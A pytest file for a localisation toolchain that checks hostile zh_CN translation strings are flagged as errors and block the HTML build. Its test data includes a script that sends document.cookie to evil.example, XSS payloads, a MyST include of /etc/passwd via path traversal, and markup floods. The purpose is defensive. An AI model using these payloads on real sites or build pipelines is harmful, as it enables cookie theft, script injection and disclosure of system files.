"""Hostile translations are error findings, and `make html` refuses to build that language."""

from __future__ import annotations

from pathlib import Path

import pytest

from conftest import copy_project
from l10n.catalog.io import read_po, write_po
from l10n.checks.findings import ERROR
from l10n.checks.runner import check_catalogs
from l10n.cli import main
from l10n.config import load_config

TARGET = "The listing is in no particular order other than being grouped by the year."

HOSTILE = {
    "script": ("这些记录按年份分组。<script>fetch('https://evil.example/?c='+document.cookie)</script>",
               "raw-html"),
    "img-onerror": ("这些记录按年份分组。<img src=x onerror=alert(1)>", "raw-html"),
    "include-parent": ("这些记录按年份分组。\n```{include} ../../../../etc/passwd\n```", "myst-directive"),
    "javascript-link": ("这些记录按 [年份](javascript:alert(1)) 分组。", "unsafe-url"),
    "noqa": ("这些记录按年份分组。 # noqa", "noqa"),
    "heading-marker": ("# 这些记录按年份分组。", "heading-marker"),
    "blank-line": ("这些记录\n\n按年份分组。", "blank-line"),
    "ordered-list": ("2024. 这些记录按年份分组。", "ordered-list-marker"),
    "eval-rst-raw": ("这些记录按年份分组。\n```{eval-rst}\n.. raw:: html\n\n   <script>alert(1)</script>\n```",
                     "myst-directive"),
    # the build's cost: 2,499 emphasis spans took the build from 2 s to 16 s; nesting crashes it
    "emphasis-flood": ("*a" * 4999, "markup-count"),
    "deep-nesting": ("这些记录" + "**" * 9 + "按年份" + "**" * 9 + "分组。", "markup-nesting"),
}


def _hostile_project(tmp_path: Path, msgstr: str) -> Path:
    root = copy_project(tmp_path / "project").root
    path = root / "locale" / "zh_CN" / "LC_MESSAGES" / "README.po"
    catalog = read_po(path)
    entry = catalog.find(TARGET)
    assert entry is not None
    entry.msgstr = msgstr
    write_po(path, catalog)
    return root


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_hostile_msgstr_is_an_error_and_is_not_built(tmp_path: Path, name: str,
                                                     capsys: pytest.CaptureFixture[str]) -> None:
    msgstr, code = HOSTILE[name]
    root = _hostile_project(tmp_path, msgstr)
    errors = [f for f in check_catalogs(load_config(root)) if f.severity == ERROR]
    assert code in {f.code for f in errors}
    line = next(f.line for f in errors if f.code == code)
    text = (root / "locale" / "zh_CN" / "LC_MESSAGES" / "README.po").read_text(encoding="utf-8")
    assert text.splitlines()[line - 1].startswith("msgstr"), "the finding points at the msgstr"

    for command in ("site", "html"):  # `make html` runs `l10n site`; `l10n html` builds one page set
        assert main(["--root", str(root), command, "--language", "zh_CN"]) == 2
        err = capsys.readouterr().err
        assert f"locale/zh_CN/LC_MESSAGES/README.po:{line}: error" in err
        assert code in err and "zh_CN not built" in err and "make check" in err
        assert not (root / "build" / "html" / "zh_CN").exists()
    assert not (root / "locale" / "zh_CN" / "LC_MESSAGES" / "README.mo").exists()
